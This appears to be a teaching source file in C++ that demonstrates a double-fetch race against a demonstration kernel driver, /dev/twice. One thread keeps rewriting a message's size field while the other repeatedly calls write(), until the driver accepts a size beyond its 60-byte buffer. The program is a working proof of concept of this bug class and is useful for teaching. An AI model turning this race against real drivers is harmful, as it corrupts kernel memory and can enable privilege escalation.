// SPDX-License-Identifier: GPL-2.0
// A program whose one thread calls the driver, and whose other changes what the driver looks at.

#include <atomic>
#include <cstdio>
#include <fcntl.h>
#include <thread>
#include <unistd.h>

//! [attack]
struct Message {
  std::atomic<unsigned> size;
  char text[60];
};

int main() {
  int file = open("/dev/twice", O_WRONLY);
  if (file < 0) return 1;
  Message message{};
  std::jthread liar([&](const std::stop_token& stop) {
    while (!stop.stop_requested()) {
      usleep(1000);
      message.size = 4000;
    }
  });
  ssize_t believed;
  do {
    message.size = 8;
    believed = write(file, &message, sizeof(message));
  } while (believed <= 60);
  std::printf("60 bytes fit, and the driver works with %zd\n", believed);
}
//! [attack]
